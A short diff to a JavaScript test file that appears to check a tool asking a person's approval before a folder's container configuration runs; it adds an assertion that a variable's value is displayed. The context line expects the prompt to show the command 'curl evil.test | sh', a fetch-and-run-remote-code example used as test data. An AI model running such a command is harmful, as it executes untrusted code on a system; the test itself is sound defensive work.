@@ -85,6 +85,7 @@ t.test('a folder that demands something is not started before a person said yes'
   const accepted = await config(['--accept'])
   t.equal(accepted.code, 0, accepted.stderr)
   t.match(accepted.stderr, /the command in its container: curl evil\.test \| sh/)
+  t.match(accepted.stderr, /the variable A="1"\n/, 'with the value')
   const after = JSON.parse((await config()).stdout)
   t.match(after.workspaceConfig, { allowed: true })
   t.match(after.mounts, [{ source: '/srv/data', target: '/mnt/data', writable: false }])
